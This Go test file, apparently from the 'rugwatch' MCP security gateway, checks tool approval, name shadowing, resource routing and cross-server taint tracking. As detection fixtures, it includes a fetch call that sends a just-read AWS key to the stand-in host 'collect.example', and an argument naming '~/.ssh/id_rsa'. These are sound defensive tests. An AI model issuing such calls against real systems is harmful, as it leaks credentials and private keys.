package proxy

import (
	"context"
	"encoding/json"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/rugwatch/rugwatch"
	"github.com/rugwatch/rugwatch/detect"
	"github.com/rugwatch/rugwatch/mcpclient"
	"github.com/rugwatch/rugwatch/monitor"
	"github.com/rugwatch/rugwatch/signatures"
	"github.com/rugwatch/rugwatch/store"
)

// The gateway's tests: two real go-sdk servers over Streamable HTTP,
// "files" (read_file, which hands out a key, and echo) and "web" (fetch,
// open world, and echo), behind one gateway session of a real go-sdk
// client, enforcing through a real Ledger. Each also has resources and
// templates (gwResources).

// gwRig is a rig whose ledger knows the two servers.
type gwRig struct {
	*rig
	urls map[string]string
	// sseURLs serve the same servers over the SSE transport, whose event
	// stream carries a server's list_changed to a proxy session (its
	// Streamable HTTP sessions open no standalone stream).
	sseURLs map[string]string
	srvs    map[string]*mcp.Server
	// resChanged and promptsChanged see the client's list_changed;
	// subscribed, which server a subscription reached.
	resChanged     chan struct{}
	promptsChanged chan struct{}
	subscribed     chan string
}

// gwResources are each server's resources and resource templates:
// shared://notes both list; item://7.json both servers' templates cover.
var gwResources = map[string]struct{ resources, templates []string }{
	"files": {[]string{"file:///readme", "shared://notes"}, []string{"file:///docs/{name}", "item://{id}.json"}},
	"web":   {[]string{"https://web.example/", "shared://notes"}, []string{"https://web.example/pages/{page}", "item://{id}"}},
}

// readAs answers a read with "<server>:<uri>".
func readAs(server string) mcp.ResourceHandler {
	return func(_ context.Context, req *mcp.ReadResourceRequest) (*mcp.ReadResourceResult, error) {
		return &mcp.ReadResourceResult{Contents: []*mcp.ResourceContents{{URI: req.Params.URI, MIMEType: "text/plain", Text: server + ":" + req.Params.URI}}}, nil
	}
}

func newGatewayRig(t *testing.T) *gwRig {
	t.Helper()
	r := &gwRig{rig: newRig(t), urls: map[string]string{}, sseURLs: map[string]string{}, srvs: map[string]*mcp.Server{},
		resChanged: make(chan struct{}, 16), promptsChanged: make(chan struct{}, 16), subscribed: make(chan string, 16)}
	r.ledger.Servers = []monitor.ServerRef{{Name: "files", Transport: mcpclient.TransportHTTP}, {Name: "web", Transport: mcpclient.TransportHTTP}}
	echo := func(server string) mcp.ToolHandler {
		return func(_ context.Context, req *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			var args struct{ Text string }
			_ = json.Unmarshal(req.Params.Arguments, &args)
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: server + ":" + args.Text}}}, nil
		}
	}
	text := func(s string) mcp.ToolHandler {
		return func(context.Context, *mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: s}}}, nil
		}
	}
	closed := false
	for _, name := range []string{"files", "web"} {
		srv := mcp.NewServer(&mcp.Implementation{Name: name, Version: "1"}, &mcp.ServerOptions{Instructions: "Instructions of " + name + ".",
			SubscribeHandler: func(context.Context, *mcp.SubscribeRequest) error {
				r.subscribed <- name
				return nil
			},
			UnsubscribeHandler: func(context.Context, *mcp.UnsubscribeRequest) error { return nil }})
		for _, uri := range gwResources[name].resources {
			srv.AddResource(&mcp.Resource{URI: uri, Name: uri, MIMEType: "text/plain"}, readAs(name))
		}
		for _, tmpl := range gwResources[name].templates {
			srv.AddResourceTemplate(&mcp.ResourceTemplate{URITemplate: tmpl, Name: tmpl, MIMEType: "text/plain"}, readAs(name))
		}
		r.srvs[name] = srv
		srv.AddTool(&mcp.Tool{Name: "echo", Description: "Echoes text.", InputSchema: json.RawMessage(`{"type":"object","properties":{"text":{"type":"string"}}}`)}, echo(name))
		if name == "files" {
			srv.AddTool(&mcp.Tool{Name: "read_file", Description: "Reads a workspace file.", Annotations: &mcp.ToolAnnotations{OpenWorldHint: &closed},
				InputSchema: json.RawMessage(`{"type":"object","properties":{"name":{"type":"string"}}}`)}, text("config: aws_access_key_id = "+awsKey))
		} else {
			srv.AddTool(&mcp.Tool{Name: "fetch", Description: "Fetches a web page.",
				InputSchema: json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"}}}`)}, text("fetched"))
		}
		srv.AddPrompt(&mcp.Prompt{Name: "greet", Description: "A greeting."}, func(context.Context, *mcp.GetPromptRequest) (*mcp.GetPromptResult, error) {
			return &mcp.GetPromptResult{Messages: []*mcp.PromptMessage{{Role: "user", Content: &mcp.TextContent{Text: "hello from " + name}}}}, nil
		})
		hs := httptest.NewServer(mcp.NewStreamableHTTPHandler(func(*http.Request) *mcp.Server { return srv }, nil))
		t.Cleanup(hs.Close)
		r.urls[name] = hs.URL
		sse := httptest.NewServer(mcp.NewSSEHandler(func(*http.Request) *mcp.Server { return srv }, nil))
		t.Cleanup(sse.Close)
		r.sseURLs[name] = sse.URL
	}
	return r
}

// gatewayOptions are the gateway's options over both servers.
func (r *gwRig) gatewayOptions(names string) GatewayOptions {
	return r.gatewayOptionsEra(names, false)
}

// gatewayOptionsEra are gatewayOptions whose sessions speak the
// handshake era to the servers where handshake is set (as `rugwatch
// proxy` does), else the stateless revision.
func (r *gwRig) gatewayOptionsEra(names string, handshake bool) GatewayOptions {
	g := GatewayOptions{Names: names, Log: slog.New(slog.DiscardHandler)}
	for _, name := range []string{"files", "web"} {
		o := r.options(ResultsFlag)
		o.Server = name
		target := mcpclient.Target{Name: name, Transport: mcpclient.TransportHTTP, URL: r.urls[name]}
		o.Dial = func(ctx context.Context, peer mcpclient.Peer, caps json.RawMessage) (*mcpclient.Session, error) {
			return mcpclient.Dial(ctx, target, mcpclient.DialOptions{Peer: peer, Capabilities: caps, PreferHandshake: handshake})
		}
		o.Watch = nil // approvals move the set here; the servers' tools do not
		g.Servers = append(g.Servers, o)
	}
	return g
}

// connectGateway runs a gateway session and connects a go-sdk client.
func (r *gwRig) connectGateway(t *testing.T, g GatewayOptions) (*mcp.ClientSession, <-chan struct{}) {
	t.Helper()
	changed := make(chan struct{}, 16)
	copts := &mcp.ClientOptions{ToolListChangedHandler: func(context.Context, *mcp.ToolListChangedRequest) {
		select {
		case changed <- struct{}{}:
		default:
		}
	}, ResourceListChangedHandler: func(context.Context, *mcp.ResourceListChangedRequest) {
		select {
		case r.resChanged <- struct{}{}:
		default:
		}
	}, PromptListChangedHandler: func(context.Context, *mcp.PromptListChangedRequest) {
		select {
		case r.promptsChanged <- struct{}{}:
		default:
		}
	}}
	ct, st := mcp.NewInMemoryTransports()
	ctx, cancel := context.WithCancel(context.Background())
	sconn, err := st.Connect(ctx)
	if err != nil {
		t.Fatal(err)
	}
	done := make(chan error, 1)
	go func() { done <- ServeGateway(ctx, sconn, g) }()
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "test-client", Version: "1"}, copts).Connect(ctx, ct, nil)
	if err != nil {
		cancel()
		t.Fatalf("client connect through the gateway: %v", err)
	}
	t.Cleanup(func() {
		cs.Close()
		cancel()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			t.Error("gateway did not stop within 10s of its context")
		}
	})
	return cs, changed
}

// approveOn signs what is observed now of server's tools.
func (r *gwRig) approveOn(t *testing.T, server string, tools ...string) {
	t.Helper()
	var rec store.ServerRecord
	if err := r.db.View(func(tx *store.Tx) error { var err error; rec, _, err = tx.Server(server); return err }); err != nil {
		t.Fatal(err)
	}
	var sas []monitor.SignedApproval
	for _, name := range tools {
		tr, ok := rec.Tools[name]
		if !ok {
			t.Fatalf("no tool %s of %s recorded", name, server)
		}
		env, err := r.signer.SignApproval(signatures.Statement{Kind: store.KindTool, Server: server, Tool: name, Digest: tr.ObservedDigest,
			Definition: tr.Definition, ApprovedAt: time.Now().UTC(), Resolves: signatures.ResolvesSeq(tr.LastTransitionSeq)})
		if err != nil {
			t.Fatal(err)
		}
		sas = append(sas, monitor.SignedApproval{Tool: name, Digest: tr.ObservedDigest, Envelope: env})
	}
	if _, err := r.ledger.Approve(context.Background(), server, sas, false); err != nil {
		t.Fatalf("approve %s %v: %v", server, tools, err)
	}
}

// waitTools waits, on the client's list_changed, until the gateway lists
// exactly want.
func waitTools(t *testing.T, cs *mcp.ClientSession, changed <-chan struct{}, want ...string) {
	t.Helper()
	slices.Sort(want)
	deadline := time.After(15 * time.Second)
	for {
		got := toolNames(t, cs)
		slices.Sort(got)
		if slices.Equal(got, want) {
			return
		}
		select {
		case <-changed:
		case <-deadline:
			t.Fatalf("the gateway lists %v, want %v", got, want)
		}
	}
}

// events returns server's events of type typ.
func (r *gwRig) events(t *testing.T, server string, typ rugwatch.EventType) []rugwatch.Event {
	t.Helper()
	all, err := r.ledger.History(context.Background(), server, 0)
	if err != nil {
		t.Fatal(err)
	}
	var out []rugwatch.Event
	for _, e := range all {
		if e.Type == typ {
			out = append(out, e)
		}
	}
	return out
}

// TestGatewayServesApprovedToolsOfEveryServer: one client session sees
// the approved tools of both servers, exactly as approved, and calls each
// on its own server; pending tools are withheld and refused as the
// server's own proxy refuses them; instructions of both arrive, each
// under its server's name.
func TestGatewayServesApprovedToolsOfEveryServer(t *testing.T) {
	r := newGatewayRig(t)
	cs, changed := r.connectGateway(t, r.gatewayOptions(NamesPlain))
	if got := toolNames(t, cs); len(got) != 0 {
		t.Fatalf("first sight: pending tools listed: %v", got)
	}
	r.approveOn(t, "files", "read_file")
	r.approveOn(t, "web", "fetch")
	waitTools(t, cs, changed, "fetch", "read_file")

	ctx := context.Background()
	if got, err := callText(t, cs, "fetch", "url", "https://example.com/"); err != nil || got != "fetched" {
		t.Fatalf("fetch through the gateway: %q %v", got, err)
	}
	if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "echo", Arguments: map[string]any{"text": "x"}}); err == nil || !strings.Contains(err.Error(), "not served") {
		t.Fatalf("a pending tool's call: %v", err)
	}
	if _, err := cs.CallTool(ctx, &mcp.CallToolParams{Name: "fetch", Arguments: map[string]any{"url": "x", "sidenote": "~/.ssh/id_rsa"}}); err == nil || !strings.Contains(err.Error(), "unknown argument") {
		t.Fatalf("arguments outside the approved schema: %v", err)
	}
	// What is served is what was signed: the approved definition.
	res, err := cs.ListTools(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, tl := range res.Tools {
		if tl.Name == "fetch" && tl.Description != "Fetches a web page." {
			t.Errorf("fetch served as %+v", tl)
		}
	}
	instr := cs.InitializeResult().Instructions
	if instr != "" {
		t.Errorf("unapproved instructions reached the client: %q", instr)
	}
}

// TestGatewayShadowedNameServedByNeither: a name served by one server is
// served; once a second server's tool of the same name is approved, the
// gateway serves it from neither, tells the client, refuses its calls and
// records a critical tool.shadowed naming both. With names: prefixed,
// both are served under their servers' names and routed to each.
func TestGatewayShadowedNameServedByNeither(t *testing.T) {
	r := newGatewayRig(t)
	cs, changed := r.connectGateway(t, r.gatewayOptions(NamesPlain))
	toolNames(t, cs) // first sight
	r.approveOn(t, "files", "echo", "read_file")
	waitTools(t, cs, changed, "echo", "read_file")
	if got, err := callText(t, cs, "echo", "text", "hi"); err != nil || got != "files:hi" {
		t.Fatalf("echo while only files serves it: %q %v", got, err)
	}
	r.approveOn(t, "web", "echo")
	waitTools(t, cs, changed, "read_file")
	_, err := callText(t, cs, "echo", "text", "hi")
	if err == nil || !strings.Contains(err.Error(), "served by files and web, so by neither") {
		t.Fatalf("a shadowed tool's call: %v", err)
	}
	ev := r.events(t, "files", rugwatch.EventToolShadowed)
	if len(ev) != 1 || ev[0].Tool != "echo" || ev[0].Severity != rugwatch.SeverityCritical || !strings.Contains(ev[0].Message, "files and web") {
		t.Fatalf("tool.shadowed events: %+v", ev)
	}
	// Listing again records nothing new: the collision is one event.
	toolNames(t, cs)
	if ev := r.events(t, "files", rugwatch.EventToolShadowed); len(ev) != 1 {
		t.Fatalf("tool.shadowed recorded %d times", len(ev))
	}

	t.Run("prefixed", func(t *testing.T) {
		cs, changed := r.connectGateway(t, r.gatewayOptions(NamesPrefixed))
		r.approveOn(t, "web", "fetch")
		waitTools(t, cs, changed, "files__echo", "files__read_file", "web__echo", "web__fetch")
		for server, want := range map[string]string{"files": "files:hi", "web": "web:hi"} {
			if got, err := callText(t, cs, server+"__echo", "text", "hi"); err != nil || got != want {
				t.Errorf("%s__echo: %q %v", server, got, err)
			}
		}
		if _, err := callText(t, cs, "echo", "text", "hi"); err == nil {
			t.Error("a plain name was routed under names: prefixed")
		}
		ps, err := cs.ListPrompts(context.Background(), nil)
		if err != nil {
			t.Fatal(err)
		}
		var prompts []string
		for _, p := range ps.Prompts {
			prompts = append(prompts, p.Name)
		}
		if slices.Sort(prompts); !slices.Equal(prompts, []string{"files__greet", "web__greet"}) {
			t.Errorf("prompts: %v", prompts)
		}
		got, err := cs.GetPrompt(context.Background(), &mcp.GetPromptParams{Name: "web__greet"})
		if err != nil || got.Messages[0].Content.(*mcp.TextContent).Text != "hello from web" {
			t.Errorf("web__greet: %+v %v", got, err)
		}
	})
}

// TestGatewayPromptsShadowed: prompts follow the same policy: greet,
// which both servers offer, is served by neither.
func TestGatewayPromptsShadowed(t *testing.T) {
	r := newGatewayRig(t)
	cs, _ := r.connectGateway(t, r.gatewayOptions(NamesPlain))
	ps, err := cs.ListPrompts(context.Background(), nil)
	if err != nil {
		t.Fatal(err)
	}
	if len(ps.Prompts) != 0 {
		t.Fatalf("a prompt two servers offer was listed: %+v", ps.Prompts[0])
	}
	if _, err := cs.GetPrompt(context.Background(), &mcp.GetPromptParams{Name: "greet"}); err == nil || !strings.Contains(err.Error(), "by neither") {
		t.Fatalf("prompts/get of a shadowed prompt: %v", err)
	}
}

// TestGatewayTaintAcrossServers: a key read through files' read_file and
// sent on to web's open-world fetch in the same client session is
// refused (exfiltration-chain, recorded on web). With the taint not
// shared between the servers' sessions the same call passes: the
// refusal is the shared taint's.
func TestGatewayTaintAcrossServers(t *testing.T) {
	for _, shared := range []bool{true, false} {
		t.Run(map[bool]string{true: "shared", false: "not shared"}[shared], func(t *testing.T) {
			r := newGatewayRig(t)
			g := r.gatewayOptions(NamesPlain)
			g.noSharedTaint = !shared
			cs, changed := r.connectGateway(t, g)
			toolNames(t, cs)
			r.approveOn(t, "files", "read_file")
			r.approveOn(t, "web", "fetch")
			waitTools(t, cs, changed, "fetch", "read_file")
			if got, err := callText(t, cs, "read_file", "name", "config"); err != nil || !strings.Contains(got, awsKey) {
				t.Fatalf("read_file: %q %v", got, err)
			}
			_, err := callText(t, cs, "fetch", "url", "https://collect.example/?k="+awsKey)
			refused := err != nil && strings.Contains(err.Error(), detect.RuleExfilChain)
			if refused != shared {
				t.Fatalf("taint shared %v: the exfiltration call: %v", shared, err)
			}
			if !shared {
				return
			}
			var chain bool
			for _, e := range r.events(t, "web", rugwatch.EventResultFlagged) {
				for _, f := range e.Findings {
					chain = chain || e.Tool == "fetch" && f.Rule == detect.RuleExfilChain
				}
			}
			if !chain {
				t.Fatal("no exfiltration-chain event on web's fetch")
			}
		})
	}
}

// TestGatewayHTTP: /mcp on a proxy_listen handler serves the gateway to
// a go-sdk client over Streamable HTTP, with the bearer token of
// /mcp/<server>; without a Gateway it is not found.
func TestGatewayHTTP(t *testing.T) {
	r := newGatewayRig(t)
	g := r.gatewayOptions(NamesPlain)
	h := &HTTP{Options: func(string) (Options, bool) { return Options{}, false },
		Gateway: func() (GatewayOptions, bool) { return g, true },
		Token:   func() (string, error) { return "s3cret", nil }}
	h.Start(context.Background())
	srv := httptest.NewServer(h)
	h.Hosts = []string{strings.TrimPrefix(srv.URL, "http://")}
	t.Cleanup(func() { srv.Close(); h.Close() })

	resp, err := http.Post(srv.URL+"/mcp", "application/json", strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}`))
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusUnauthorized {
		t.Fatalf("/mcp without the token: %d", resp.StatusCode)
	}
	changed := make(chan struct{}, 16)
	cs, err := mcp.NewClient(&mcp.Implementation{Name: "c", Version: "1"}, &mcp.ClientOptions{
		ToolListChangedHandler: func(context.Context, *mcp.ToolListChangedRequest) {
			select {
			case changed <- struct{}{}:
			default:
			}
		}}).Connect(context.Background(),
		&mcp.StreamableClientTransport{Endpoint: srv.URL + "/mcp", HTTPClient: &http.Client{Transport: bearer{"s3cret", http.DefaultTransport}}}, nil)
	if err != nil {
		t.Fatalf("client with the token: %v", err)
	}
	defer cs.Close()
	toolNames(t, cs)
	r.approveOn(t, "files", "read_file", "echo")
	r.approveOn(t, "web", "fetch")
	waitTools(t, cs, changed, "echo", "fetch", "read_file")
	if got, err := callText(t, cs, "echo", "text", "hi"); err != nil || got != "files:hi" {
		t.Fatalf("echo over /mcp: %q %v", got, err)
	}
	if n := h.SessionsByServer()[""]; n != 1 {
		t.Errorf("gateway sessions: %d", n)
	}

	// A handler with no gateway has nothing at /mcp.
	plain := &HTTP{Options: h.Options}
	plain.Start(context.Background())
	defer plain.Close()
	plain.Hosts = []string{"example.test"}
	req := httptest.NewRequest(http.MethodPost, "http://example.test/mcp", strings.NewReader(`{"jsonrpc":"2.0","id":1,"method":"initialize","params":{}}`))
	rec := httptest.NewRecorder()
	plain.ServeHTTP(rec, req)
	if rec.Code != http.StatusNotFound {
		t.Fatalf("/mcp with no gateway: %d", rec.Code)
	}
}

// TestGatewayResources: the resources and templates of both servers are
// listed as the servers list them, but for shared://notes, which both
// list; a read goes to the server that listed the URI, or else to the
// one whose template covers it; a URI both list, both servers' templates
// cover, or none covers is refused, and so is a subscription to it;
// under names: prefixed too (URIs are never renamed). Both eras upstream.
func TestGatewayResources(t *testing.T) {
	for _, handshake := range []bool{false, true} {
		t.Run(map[bool]string{false: "stateless", true: "handshake"}[handshake], func(t *testing.T) {
			gatewayResources(t, handshake)
		})
	}
}

func gatewayResources(t *testing.T, handshake bool) {
	r := newGatewayRig(t)
	cs, _ := r.connectGateway(t, r.gatewayOptionsEra(NamesPrefixed, handshake))
	ctx := context.Background()
	listed := func() []string {
		t.Helper()
		res, err := cs.ListResources(ctx, nil)
		if err != nil {
			t.Fatal(err)
		}
		var uris []string
		for _, r := range res.Resources {
			uris = append(uris, r.URI)
		}
		slices.Sort(uris)
		return uris
	}
	if got, want := listed(), []string{"file:///readme", "https://web.example/"}; !slices.Equal(got, want) {
		t.Fatalf("resources listed: %v, want %v (shared://notes is listed by both)", got, want)
	}
	ts, err := cs.ListResourceTemplates(ctx, nil)
	if err != nil {
		t.Fatal(err)
	}
	var tmpls []string
	for _, tm := range ts.ResourceTemplates {
		tmpls = append(tmpls, tm.URITemplate)
	}
	if slices.Sort(tmpls); !slices.Equal(tmpls, []string{"file:///docs/{name}", "https://web.example/pages/{page}", "item://{id}", "item://{id}.json"}) {
		t.Fatalf("templates listed: %v", tmpls)
	}
	for uri, server := range map[string]string{
		"file:///readme": "files", "https://web.example/": "web", // listed
		"file:///docs/guide.md": "files", "https://web.example/pages/about": "web", "item://7": "web", // only a template covers these
	} {
		res, err := cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: uri})
		if err != nil || len(res.Contents) != 1 || res.Contents[0].Text != server+":"+uri {
			t.Errorf("read %s: %+v %v, want it from %s", uri, res, err, server)
		}
	}
	for uri, want := range map[string]string{
		"shared://notes":   "listed by files and web, so served by neither",
		"item://7.json":    "covered by resource templates of files and web, so served by neither",
		"file:///docs/a/b": "not served by this gateway", // {name} is one segment (level 1)
		"ftp://nowhere/":   "not served by this gateway",
	} {
		if _, err := cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: uri}); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("read %s: %v, want %q", uri, err, want)
		}
	}
	if err := cs.Subscribe(ctx, &mcp.SubscribeParams{URI: "https://web.example/pages/about"}); err != nil {
		t.Fatalf("subscribe: %v", err)
	}
	if got := <-r.subscribed; got != "web" {
		t.Errorf("a subscription to web's page reached %s", got)
	}
	if err := cs.Subscribe(ctx, &mcp.SubscribeParams{URI: "item://7.json"}); err == nil || !strings.Contains(err.Error(), "served by neither") {
		t.Errorf("subscribe to an ambiguous URI: %v", err)
	}

}

// TestGatewayOfOneServerRoutesEveryURI: a URI no server lists and no
// template covers is refused by a gateway of two servers (whose could it
// be?), and sent to the server by a gateway of one, as its own endpoint
// sends it.
func TestGatewayOfOneServerRoutesEveryURI(t *testing.T) {
	r := newGatewayRig(t)
	both := r.gatewayOptionsEra(NamesPlain, true)
	cs, _ := r.connectGateway(t, both)
	ctx := context.Background()
	if err := cs.Subscribe(ctx, &mcp.SubscribeParams{URI: "watch://unlisted"}); err == nil || !strings.Contains(err.Error(), "not served by this gateway") {
		t.Fatalf("two servers, an unlisted URI: %v, want refused", err)
	}
	one := both
	one.Servers = both.Servers[:1]
	cs, _ = r.connectGateway(t, one)
	if err := cs.Subscribe(ctx, &mcp.SubscribeParams{URI: "watch://unlisted"}); err != nil {
		t.Fatalf("one server, an unlisted URI: %v", err)
	}
	if got := <-r.subscribed; got != one.Servers[0].Server {
		t.Fatalf("the subscription reached %s, want %s", got, one.Servers[0].Server)
	}
}

// TestGatewayLevelOneTemplates: a template routes the URIs its level 1
// expansion gives, and none beyond; other levels route nothing.
func TestGatewayLevelOneTemplates(t *testing.T) {
	for _, tc := range []struct {
		tmpl, uri string
		match     bool
	}{
		{"file:///docs/{name}", "file:///docs/a.md", true},
		{"file:///docs/{name}", "file:///docs/", true}, // an undefined variable expands to nothing
		{"file:///docs/{name}", "file:///docs/a%2Fb", true},
		{"file:///docs/{name}", "file:///docs/a/b", false},
		{"file:///docs/{name}", "file:///docs/a?b", false},
		{"file:///docs/{name}", "xfile:///docs/a", false},
		{"a.b/{x}{y}", "aXb/1", false}, // literals are literal
		{"item://{id}.json", "item://7.json", true},
	} {
		re, err := levelOne(tc.tmpl)
		if err != nil {
			t.Fatalf("%s: %v", tc.tmpl, err)
		}
		if got := re.MatchString(tc.uri); got != tc.match {
			t.Errorf("%s matches %s: %v, want %v", tc.tmpl, tc.uri, got, tc.match)
		}
	}
	for _, tmpl := range []string{"file:///{+path}", "q{?a,b}", "{a,b}", "{var:3}", "{list*}", "a{b", "a}b", "{}", "{/seg}"} {
		if _, err := levelOne(tmpl); err == nil {
			t.Errorf("%s compiled as level 1", tmpl)
		}
	}
}

// TestGatewayListChanged: a server's resources or prompts list_changed is
// merged before the client hears of it: a URI or a prompt that another
// server now lists too is refused at once, though the client was routed
// to the first a moment before.
func TestGatewayListChanged(t *testing.T) {
	r := newGatewayRig(t)
	g := r.gatewayOptions(NamesPlain)
	for i := range g.Servers {
		target := mcpclient.Target{Name: g.Servers[i].Server, Transport: mcpclient.TransportSSE, URL: r.sseURLs[g.Servers[i].Server]}
		g.Servers[i].Dial = func(ctx context.Context, peer mcpclient.Peer, caps json.RawMessage) (*mcpclient.Session, error) {
			return mcpclient.Dial(ctx, target, mcpclient.DialOptions{Peer: peer, Capabilities: caps, PreferHandshake: true})
		}
	}
	cs, _ := r.connectGateway(t, g)
	ctx := context.Background()
	wait := func(ch <-chan struct{}, what string) {
		t.Helper()
		select {
		case <-ch:
		case <-time.After(15 * time.Second):
			t.Fatalf("no %s list_changed reached the client", what)
		}
	}
	if res, err := cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: "file:///readme"}); err != nil || res.Contents[0].Text != "files:file:///readme" {
		t.Fatalf("read file:///readme: %+v %v", res, err)
	}
	r.srvs["web"].AddResource(&mcp.Resource{URI: "file:///readme", Name: "readme", MIMEType: "text/plain"}, readAs("web"))
	wait(r.resChanged, "resources")
	if _, err := cs.ReadResource(ctx, &mcp.ReadResourceParams{URI: "file:///readme"}); err == nil || !strings.Contains(err.Error(), "listed by files and web") {
		t.Fatalf("read of a URI both list now: %v", err)
	}

	hello := func(server string) mcp.PromptHandler {
		return func(context.Context, *mcp.GetPromptRequest) (*mcp.GetPromptResult, error) {
			return &mcp.GetPromptResult{Messages: []*mcp.PromptMessage{{Role: "user", Content: &mcp.TextContent{Text: server}}}}, nil
		}
	}
	r.srvs["files"].AddPrompt(&mcp.Prompt{Name: "hello"}, hello("files"))
	wait(r.promptsChanged, "prompts")
	if got, err := cs.GetPrompt(ctx, &mcp.GetPromptParams{Name: "hello"}); err != nil || got.Messages[0].Content.(*mcp.TextContent).Text != "files" {
		t.Fatalf("hello while only files offers it: %+v %v", got, err)
	}
	r.srvs["web"].AddPrompt(&mcp.Prompt{Name: "hello"}, hello("web"))
	wait(r.promptsChanged, "prompts")
	if _, err := cs.GetPrompt(ctx, &mcp.GetPromptParams{Name: "hello"}); err == nil || !strings.Contains(err.Error(), "by neither") {
		t.Fatalf("hello once both offer it: %v", err)
	}
}
